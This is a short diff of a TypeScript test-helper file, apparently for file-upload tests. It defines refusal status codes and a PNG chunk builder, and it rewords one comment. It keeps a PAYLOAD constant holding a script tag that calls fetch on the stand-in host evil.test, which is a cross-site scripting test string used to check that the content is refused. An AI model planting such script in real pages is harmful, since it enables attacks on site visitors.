@@ -16,7 +16,7 @@ export type HarmlessFile = readonly [name: string, make: () => Buffer | Promise<
 export const UNSUPPORTED_KIND_415 = [415, 'UNSUPPORTED_KIND'] as const
 /** The refusal for forbidden or unreadable content. */
 export const FILE_REFUSED_400 = [400, 'FILE_REFUSED'] as const
-/** Content that must never reach a browser as part of a page. */
+/** Bytes that a browser must never run or render as a page. */
 export const PAYLOAD = '<script>fetch("//evil.test")</script>'
 
 /** Builds a chunk of a PNG (PNG specification, 5.3). */
